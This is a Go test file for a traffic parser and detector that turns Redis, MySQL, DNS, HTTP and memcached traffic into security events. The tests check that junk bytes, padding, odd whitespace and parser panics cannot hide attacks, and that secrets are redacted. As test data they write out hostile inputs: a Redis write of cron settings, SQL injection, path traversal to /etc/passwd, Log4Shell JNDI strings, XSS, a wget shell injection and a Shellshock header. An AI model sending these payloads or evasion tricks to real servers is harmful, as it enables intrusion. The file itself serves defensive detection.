package protocols_test

import (
	"fmt"
	"strings"
	"testing"

	"tidegate/pipeline"
	"tidegate/protocols"
	"tidegate/protocols/all"
	"tidegate/protocols/protocoltest"
)

// told plays conversation whole, cut and one byte a segment. Its events must hold every one of wants each time.
func told(t *testing.T, conversation protocoltest.Conversation, wants ...string) {
	t.Helper()
	variants := map[string]protocoltest.Conversation{"whole": conversation}
	if !conversation.UDP {
		variants["cut by 7"], variants["cut by 1"] = conversation.Cut(7), conversation.Cut(1)
	}
	for name, variant := range variants {
		events, _ := variant.Play(all.Protocols)
		text := strings.Join(events, "\n")
		for _, want := range wants {
			if !strings.Contains(text, want) {
				t.Errorf("%s: no event has %s; the events are\n%s", name, want, shortened(text))
				return
			}
		}
	}
}

func shortened(text string) string {
	const most = 3000
	if len(text) > most {
		return text[:most/2] + "\n…\n" + text[len(text)-most/2:]
	}
	return text
}

var dialogue = protocoltest.Dialogue

// repeated returns n times the lines.
func repeated(n int, lines ...string) (all []string) {
	for range n {
		all = append(all, lines...)
	}
	return all
}

const (
	cronWrite      = ">*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n"
	cronWriteEvent = `redis.command="CONFIG SET"`
	cronWriteArgs  = `redis.args=["dir" "/var/spool/cron"]`
)

// TestJunkDatagramsHideNoQuery: a resolver answers what follows, however much junk came before.
func TestJunkDatagramsHideNoQuery(t *testing.T) {
	query := "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x02c2\x04evil\x07example\x00\x00\x01\x00\x01"
	for _, port := range []uint16{53, 5300} {
		for _, junk := range []string{"\x00", "\x00\x00\x00\x00", strings.Repeat("\xff", 40), query[:20]} {
			conversation := dialogue(port, append(repeated(200, ">"+junk), ">"+query)...)
			conversation.UDP = true
			told(t, conversation, `dns.question.name="c2.evil.example"`)
		}
	}
}

// TestErrorsHideNoCommand: the server answers each error and goes on.
func TestErrorsHideNoCommand(t *testing.T) {
	for _, port := range []uint16{6379, 40404} {
		for _, junk := range []string{"!", "\x01\x02", "\"", "{}", "'x' y", "?\xff"} {
			lines := repeated(150, ">"+junk+"\r\n", "<-ERR unknown command '"+junk+"', with args beginning with: \r\n", ">PING\r\n", "<+PONG\r\n")
			lines = append(lines, cronWrite, "<+OK\r\n", ">CONFIG SET dbfilename root\r\n", "<+OK\r\n")
			told(t, dialogue(port, lines...), cronWriteEvent, cronWriteArgs, `redis.args=["dbfilename" "root"]`)
		}
	}
}

// TestErrorsBeyondALimitAreTold: a protocol error of Redis closes the connection; a client that goes on makes
// one after the other, and there is an event of it at once.
func TestErrorsBeyondALimitAreTold(t *testing.T) {
	lines := append([]string{">*1\r\n$4\r\nPING\r\n", "<+PONG\r\n"}, repeated(100, ">*1\r\n$4\r\nPING\r\n*1\r\n$x\r\n")...)
	told(t, dialogue(6379, append(lines, cronWrite, "<+OK\r\n")...),
		`tags=["parsing_stopped" "too_many_errors"]`, cronWriteEvent, cronWriteArgs)
}

// TestUnknownMySQLCommandsHideNoStatement: the server answers an unknown command, one with too many bytes and
// an empty packet with an error, and goes on.
func TestUnknownMySQLCommandsHideNoStatement(t *testing.T) {
	greeting := "\x0a5.5.5-10.11\x00\x01\x00\x00\x00abcdefgh\x00\xfe\xf7\x08\x02\x00\xbf\x81\x15" + strings.Repeat("\x00", 10) +
		"abcdefghijkl\x00mysql_native_password\x00"
	login := "\x85\xa2\x0b\x00\x00\x00\x00\x01\x21" + strings.Repeat("\x00", 23) + "root\x00\x00"
	const unknown = "\x11\x00\x00\x01\xff\x17\x04#08S01Unknown c"
	const ok = "\x07\x00\x00\x01\x00\x00\x00\x02\x00\x00\x00"
	statement := "\x03SELECT 1 INTO OUTFILE '/tmp/x'"
	for _, odd := range []string{"\x7f", "\x1d", "\x0eping with a text", "", "\x19\x01", "\x0dlong"} {
		lines := []string{"<" + packet(0, greeting), ">" + packet(1, login), "<\x07\x00\x00\x02\x00\x00\x00\x02\x00\x00\x00"}
		answer := "<" + unknown
		if odd == "\x19\x01" { // COM_STMT_CLOSE has no reply
			answer = "<"
		}
		lines = append(lines, repeated(120, ">"+packet(0, odd), answer, ">"+packet(0, "\x0e"), "<"+ok)...)
		lines = append(lines, ">"+packet(0, statement), "<"+ok)
		told(t, dialogue(3306, lines...), `mysql.query="SELECT 1 INTO OUTFILE '/tmp/x'"`)
	}
}

// packet returns a packet of MySQL.
func packet(sequence byte, payload string) string {
	size := len(payload)
	return string([]byte{byte(size), byte(size >> 8), byte(size >> 16), sequence}) + payload
}

// TestFirstLineOfAnotherProtocolDecidesNothing: Redis and memcached answer the line of another protocol with an
// error and go on.
func TestFirstLineOfAnotherProtocolDecidesNothing(t *testing.T) {
	const wrong = "<-ERR wrong number of arguments for 'get' command\r\n"
	firsts := []string{"GET / HTTP/1.1\r\n", "GET / HTTP/1.0\r\n\r\n", "GET /\r\n\r\n", "PUT /x HTTP/1.1\r\n\r\n"}
	for _, port := range []uint16{6379, 40404} {
		for _, first := range firsts {
			answers := wrong
			if port != 6379 {
				answers = "<-NOAUTH Authentication required.\r\n"
			}
			// One after the other, and all at once before the first answer.
			told(t, dialogue(port, ">"+first, answers, cronWrite, "<+OK\r\n"), cronWriteEvent, cronWriteArgs)
			told(t, dialogue(port, ">"+first+cronWrite[1:], answers, "<+OK\r\n"), cronWriteEvent, cronWriteArgs)
		}
	}
	told(t, dialogue(11211, ">GET / HTTP/1.1\r\n", "<ERROR\r\n", ">flush_all\r\n", "<OK\r\n"), `memcached.command="flush_all"`)
	told(t, dialogue(11211, ">GET / HTTP/1.1\r\n\r\nflush_all\r\n", "<ERROR\r\nERROR\r\nOK\r\n"), `memcached.command="flush_all"`)
	told(t, dialogue(6379, ">set a 0 0 1\r\nx\r\n", "<-ERR syntax error\r\n-ERR unknown command 'x', with args beginning with: \r\n", cronWrite, "<+OK\r\n"),
		cronWriteEvent, cronWriteArgs)
}

// TestUnknownFirstBytesDecideNothing: the port or the server's answer tells the protocol later.
func TestUnknownFirstBytesDecideNothing(t *testing.T) {
	for _, junk := range []string{"!\r\n", "\x16\r\n", "SSH-2.0-x\r\n", strings.Repeat("z", 300) + "\r\n"} {
		lines := append(repeated(40, ">"+junk, "<-ERR unknown command, with args beginning with: \r\n"), cronWrite, "<+OK\r\n")
		told(t, dialogue(6379, lines...), cronWriteEvent, cronWriteArgs)
	}
}

// TestMonitorAndReplicationHideNoCommand: the server executes what the client sends beside the stream.
func TestMonitorAndReplicationHideNoCommand(t *testing.T) {
	const line = "+1700000000.1 [0 127.0.0.1:1] \"GET\" \"a\"\r\n"
	told(t, dialogue(6379, ">MONITOR\r\n", "<+OK\r\n"+line, cronWrite, "<"+line+"+OK\r\n"+line, ">RESET\r\n", "<+RESET\r\n", ">SAVE\r\n", "<+OK\r\n"),
		cronWriteEvent, cronWriteArgs, `redis.command="RESET"`, `redis.command="SAVE" redis.reply_type="simple_string" redis.reply="OK"`)
	// RESET is sent long before its reply, and lines come until then.
	told(t, dialogue(6379, ">MONITOR\r\n", "<+OK\r\n", ">SET k v\r\nRESET\r\nSAVE\r\n", "<-ERR Replica can't interact with the keyspace\r\n"+line+line+"+RESET\r\n-ERR no\r\n"),
		`redis.command="SET" redis.key="k" redis.reply_type="error"`, `redis.command="RESET" redis.reply_type="simple_string" redis.reply="RESET"`,
		`redis.command="SAVE" redis.reply_type="error"`)
	told(t, dialogue(6379, ">PSYNC ? -1\r\n", "<+FULLRESYNC 8de1787ba490483314a4d30f1c628bc5025eb761 0\r\n", "<$9\r\nREDIS0011*1\r\n$4\r\nPING\r\n", cronWrite),
		cronWriteEvent, cronWriteArgs)
}

// TestRedisReadsWhatItsServerReads: the server looks neither at the byte after the CR of a header nor at the two
// bytes after an argument.
func TestRedisReadsWhatItsServerReads(t *testing.T) {
	odd := strings.NewReplacer("\r\n", "\rX").Replace(cronWrite)
	told(t, dialogue(6379, odd, "<+OK\r\n"), cronWriteEvent, cronWriteArgs)
	told(t, dialogue(6379, ">PING\r\n", "<+PONG\r\n", odd, "<+OK\r\n"), cronWriteEvent, cronWriteArgs)
	told(t, dialogue(6379, ">\v\f CONFIG SET \vdir\t/var/spool/cron\r\n", "<+OK\r\n"), cronWriteEvent, cronWriteArgs)
}

// TestRedisIsRecognisedWithoutAnAnswer: the first command may silence the server, may be in quotes, and may follow
// thousands of empty arrays.
func TestRedisIsRecognisedWithoutAnAnswer(t *testing.T) {
	told(t, dialogue(6379, ">'CLIENT' REPLY OFF\r\n", cronWrite), `redis.command="CLIENT REPLY"`, cronWriteEvent, cronWriteArgs)
	told(t, dialogue(6379, ">\x01\r\n", ">\x02\r\n", cronWrite), cronWriteEvent, cronWriteArgs)
	for _, count := range []int{1, 5, 100, 3000} {
		for _, empty := range []string{"*-1\r\n", "*0\r\n", "*-1\r\n\r\n"} {
			told(t, dialogue(6379, ">"+strings.Repeat(empty, count)+cronWrite[1:], "<+OK\r\n"), cronWriteEvent, cronWriteArgs)
		}
	}
}

// TestPanicEndsNoConnection: what follows a panic of the parser is read, and the panic is told.
func TestPanicEndsNoConnection(t *testing.T) {
	list := append([]protocols.Protocol{}, all.Protocols...)
	for i := range list {
		if list[i].Name == "redis" {
			create := list[i].New
			list[i].New = func() protocols.Parser { return &panicking{Parser: create()} }
		}
	}
	conversation := dialogue(6379, append(repeated(50, ">PANIC\r\n", "<+OK\r\n"), cronWrite, "<+OK\r\n")...)
	var text string
	for _, event := range conversation.Events(list) {
		text += protocoltest.Text(event) + "\n"
	}
	for _, want := range []string{cronWriteEvent, cronWriteArgs, `tags=["parsing_stopped" "parser_panic"]`} {
		if !strings.Contains(text, want) {
			t.Errorf("no event has %s; the events are\n%s", want, shortened(text))
		}
	}
	if events := strings.Count(text, pipeline.TagParserPanic); events > 8 {
		t.Errorf("%d events tell of the panics of one connection", events)
	}
}

// panicking is a parser that panics at a line.
type panicking struct{ protocols.Parser }

func (p *panicking) Parse(dir protocols.Dir, data []byte, at int64) (int, error) {
	if strings.HasPrefix(string(data), "PANIC") {
		panic(fmt.Sprintf("as asked, at %d", at))
	}
	return p.Parser.Parse(dir, data, at)
}

// TestLeadingLineBreaksHideNoRequest: nginx skips any number of them, Redis and memcached skip empty lines.
func TestLeadingLineBreaksHideNoRequest(t *testing.T) {
	const request, response = "GET /../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n", "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"
	for _, breaks := range []string{"\r\n", strings.Repeat("\r\n", 40), strings.Repeat("\r\n", 3000), strings.Repeat("\n", 20000)} {
		for _, port := range []uint16{80, 9000} {
			told(t, dialogue(port, ">"+breaks+request, "<"+response), `url.original="/../../etc/passwd"`)
			told(t, dialogue(port, ">"+breaks, ">"+request, "<"+response), `url.original="/../../etc/passwd"`)
		}
		told(t, dialogue(6379, ">"+breaks+cronWrite[1:], "<+OK\r\n"), cronWriteEvent, cronWriteArgs)
	}
}

// TestRequestLineMayHaveAnyWhiteSpace: Python's http.server splits it at these.
func TestRequestLineMayHaveAnyWhiteSpace(t *testing.T) {
	const response = "<HTTP/1.0 404 File not found\r\nConnection: close\r\n\r\n"
	for _, space := range []string{"\t", "\v", "\f", " \t ", "\x1c", "\x1d", "\x1e", "\x1f", "\x85", "\xa0"} {
		for _, port := range []uint16{8000, 9000} {
			line := ">GET" + space + "/../../etc/passwd" + space + "HTTP/1.1\r\nHost: x\r\n\r\n"
			told(t, dialogue(port, line, response), `url.original="/../../etc/passwd"`, `http.request.method="GET"`)
		}
	}
	// One byte a segment, on a port of no protocol.
	told(t, dialogue(9000, ">GET /"+strings.Repeat("a", 1500)+"/../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n", response), `/../../etc/passwd"`)
}

// TestOddQueriesAreTold: on the port of DNS whatever has a readable header is an event.
func TestOddQueriesAreTold(t *testing.T) {
	header := func(questions, additional byte) string {
		return "\x12\x34\x01\x00\x00" + string([]byte{questions}) + "\x00\x00\x00\x00\x00" + string([]byte{additional})
	}
	const name = "\x02c2\x04evil\x07example\x00"
	check := func(query string, want ...string) {
		t.Helper()
		conversation := dialogue(53, ">"+query)
		conversation.UDP = true
		told(t, conversation, want...)
		framed := string([]byte{byte(len(query) >> 8), byte(len(query))}) + query
		plain := header(1, 0) + "\x01a\x00\x00\x01\x00\x01"
		told(t, dialogue(53, ">\x00"+string([]byte{byte(len(plain))})+plain, ">"+framed), want...)
	}
	const told = `dns.question.name="c2.evil.example"`
	check(header(17, 0)+strings.Repeat(name+"\x00\x01\x00\x01", 17), told, "event.partial=true")
	check(header(1, 0)+name+"\x00\x00\x00\x01", told)
	check(header(1, 0)+name+"\x03\xe8\x00\x01", told)
	check(header(1, 0)+name+"\x00\x01\x00\x07", told)
	check(header(1, 0)+strings.Repeat("\xff", 30), "event.partial=true")

	// The name of the question lies behind it, in the data of an OPT record.
	check(header(1, 1)+"\xc0\x1d\x00\x01\x00\x01"+"\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00"+string([]byte{byte(len(name))})+name, told)
}

// TestAnswerWithoutRequestIsPartial: its request was not captured, or not recognised.
func TestAnswerWithoutRequestIsPartial(t *testing.T) {
	told(t, dialogue(80, "<HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"), `event.partial=true`)
	told(t, dialogue(6379, "<-NOAUTH Authentication required.\r\n"), `event.partial=true`)
}

// TestPaddingHidesNothing: the head and the tail of what is too long are kept, and the event says so.
func TestPaddingHidesNothing(t *testing.T) {
	const truncated = `tags=["truncated"]`
	for _, size := range []int{9000, 60_000} {
		padding := strings.Repeat("a", size)
		told(t, dialogue(80, ">GET /?p="+padding+"&x=../../../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n", "<HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n"),
			`&x=../../../../etc/passwd"`, truncated, `"url:traversal" "url:system_file"`)
		// In the middle: the forms of attacks are looked for in all of it.
		told(t, dialogue(80, ">GET /?p="+padding[:size/2]+"&x=../../../../etc/passwd&y="+padding[:size/2]+" HTTP/1.1\r\nHost: x\r\n\r\n", "<HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n"),
			truncated, `"url:traversal" "url:system_file"`)
		told(t, dialogue(80, ">GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: "+padding+" sqlmap/1.0\r\n\r\n", "<HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n"),
			` sqlmap/1.0"`, truncated)
		value := ">*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$" + fmt.Sprint(2*size+4) + "\r\n" + padding + padding + "\nssh\r\n"
		told(t, dialogue(6379, value, "<+OK\r\n"), `\nssh`, truncated)
	}
	// A secret that the cut goes through stays hidden.
	for size := 5900; size < 8400; size += 97 {
		conversation := dialogue(80, ">GET /?p="+strings.Repeat("a", size)+"&token="+strings.Repeat("hunter2", 400)+"&z HTTP/1.1\r\nHost: x\r\n\r\n",
			"<HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n")
		if events, _ := conversation.Play(all.Protocols); len(events) != 1 || strings.Contains(events[0], "unter") {
			t.Fatalf("%d: %s", size, shortened(strings.Join(events, "\n")))
		}
	}
}

// TestManyPairsHideNoSetting: of CONFIG SET every name is looked at.
func TestManyPairsHideNoSetting(t *testing.T) {
	for before := range 40 {
		for _, after := range []int{0, 1, 2, 30} {
			words := []string{"CONFIG", "SET"}
			for i := range before {
				words = append(words, fmt.Sprintf("name-%d", i), "x")
			}
			words = append(words, "Dir", "/var/spool/cron")
			for i := range after {
				words = append(words, fmt.Sprintf("more-%d", i), "x")
			}
			line := fmt.Sprintf(">*%d\r\n", len(words))
			for _, word := range words {
				line += fmt.Sprintf("$%d\r\n%s\r\n", len(word), word)
			}
			wants := []string{`"Dir" "/var/spool/cron"`}
			if before+after > 8 {
				wants = append(wants, `tags=["truncated"]`)
			}
			told(t, dialogue(6379, line, "<+OK\r\n"), wants...)
		}
	}
}

// TestRedactionHidesNoAttack: the value of a parameter named like a secret is hidden, the form of an attack in it is
// not. Of header fields no value is kept.
func TestRedactionHidesNoAttack(t *testing.T) {
	check := func(target, header string, wants ...string) {
		t.Helper()
		conversation := dialogue(80, ">GET "+target+" HTTP/1.1\r\nHost: x\r\n"+header+"\r\n", "<HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n")
		told(t, conversation, wants...)
		events, _ := conversation.Play(all.Protocols)
		if strings.Contains(strings.Join(events, ""), "hunter2") {
			t.Errorf("a secret is in %s", events)
		}
	}
	for _, name := range []string{"key", "token", "password", "code", "session", "api_key"} {
		for _, sql := range []string{"1%20where%205929%3D5929--", "1);select+(case+when+(1=1)+then+1+else+0+end)--", "admin%27%20OR%20%271%27%3D%271", "1+and+7+=+7"} {
			check("/?"+name+"="+sql, "", `http.request.markers=["url:sql"]`)
		}
		check("/?"+name+"=../../../../etc/passwd", "", `http.request.markers=["url:traversal" "url:system_file"]`)
		check("/?"+name+"=%252e%252e%252Fetc%252fpasswd", "", `http.request.markers=["url:traversal" "url:system_file"]`)
		check("/?"+name+"=$%7Bjndi:ldap://x/a}", "", `http.request.markers=["url:jndi"]`)
		check("/?"+name+"=x'+UNION+SELECT+hunter2", "", `http.request.markers=["url:sql"]`)
		check("/?"+name+"=%3CScript%3Ealert(1)", "", `http.request.markers=["url:script"]`)
		check("/?"+name+"=1;wget+http://x/hunter2", "", `http.request.markers=["url:shell"]`)
		check("/?"+name+"=hunter2", "", `url.original="/?`+name+`=REDACTED"`)
	}
	check("/", "X-Api-Version: ${jndi:ldap://x/hunter2}\r\n", `http.request.markers=["x-api-version:jndi"]`)
	check("/", "Cookie: a=hunter2; b=%24%7bjndi:ldap://x}\r\n", `http.request.markers=["cookie:jndi"]`)
	check("/", "Accept: ${${lower:j}ndi:ldap://x}\r\nX-Forwarded-Host: <script>alert(1)</script>\r\n", `http.request.markers=["accept:jndi" "x-forwarded-host:script"]`)
	check("/", "X-A: b\r\n () { :; }; /bin/id\r\n", `http.request.markers=["x-a:shell"]`)
}
